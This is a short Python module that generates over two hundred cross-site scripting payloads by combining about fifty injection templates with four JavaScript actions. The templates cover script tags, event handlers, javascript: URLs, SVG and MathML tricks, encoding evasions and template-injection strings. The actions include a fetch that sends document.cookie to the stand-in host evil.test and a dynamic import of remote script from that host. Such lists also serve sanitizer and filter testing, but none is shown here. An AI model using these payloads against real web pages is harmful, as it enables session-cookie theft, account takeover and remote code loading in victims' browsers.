"""Texts that become code where a page takes them for markup: every way in that is known, times every place that runs it."""

from __future__ import annotations

from typing import Final

_RUNS: Final = ("alert(1)", "alert`1`", "fetch('//evil.test/'+document.cookie)", "import('//evil.test/x.js')")

_SHAPES: Final = (
    "<script>{0}</script>",
    "<SCRIPT\t>{0}</SCRIPT >",
    "<scr\x00ipt>{0}</scr\x00ipt>",
    "<scr<script>ipt>{0}</scr</script>ipt>",
    "</title><script>{0}</script>",
    "</style><script>{0}</script>",
    "</code></bdi></h3></li></ol></main><script>{0}</script>",
    "--><script>{0}</script><!--",
    "]]><script>{0}</script>",
    "<svg onload={0}>",
    "<svg><script>{0}</script></svg>",
    "<svg><animate onbegin={0} attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg onload={0}>'></use></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror={0}></style></mglyph></table></mtext></math>",
    "<img src=x onerror={0}>",
    "<img src=x onerror\x0c=\x0c{0}>",
    "<img/src='x'/onerror='{0}'>",
    '"><img src=x onerror="{0}">',
    "'><img src=x onerror='{0}'>",
    '" onmouseover="{0}" autofocus onfocus="{0}" x="',
    "' onmouseover='{0}' autofocus onfocus='{0}' x='",
    "` onmouseover=`{0}` x=`",
    '<a href="javascript:{0}">x</a>',
    '<a href="java\tscript:{0}">x</a>',
    "<a href='data:text/html,<script>{0}</script>'>x</a>",
    "<iframe srcdoc='<script>{0}</script>'></iframe>",
    '<iframe src="javascript:{0}"></iframe>',
    '<object data="javascript:{0}"></object>',
    '<embed src="javascript:{0}">',
    '<form action="javascript:{0}"><button>x</button></form>',
    '<button formaction="javascript:{0}">x</button>',
    "<input autofocus onfocus={0}>",
    "<details open ontoggle={0}>",
    "<video><source onerror={0}></video>",
    "<body onload={0}>",
    "<marquee onstart={0}>",
    "<style>@import 'javascript:{0}';</style>",
    "<style>*{{background:url('javascript:{0}')}}</style>",
    '<link rel=stylesheet href="javascript:{0}">',
    '<base href="javascript:{0}//">',
    '<meta http-equiv=refresh content="0;url=javascript:{0}">',
    "<template><script>{0}</script></template>",
    '<noscript><p title="</noscript><img src=x onerror={0}>">',
    "&lt;script&gt;{0}&lt;/script&gt;",
    "&#60;script&#62;{0}&#60;/script&#62;",
    "\uff1cscript\uff1e{0}\uff1c/script\uff1e",
    "\u202e<script>{0}</script>\u202c",
    "+ADw-script+AD4-{0}+ADw-/script+AD4-",
    "{{{{ {0} }}}}",
    "{{% for x in ().__class__.__base__.__subclasses__() %}}{0}{{% endfor %}}",
    "${{{0}}} #{{{0}}} <%= {0} %>",
    "javascript:{0}",
)

VECTORS: Final = tuple(shape.format(run) for shape in _SHAPES for run in _RUNS)
"""Over two hundred."""
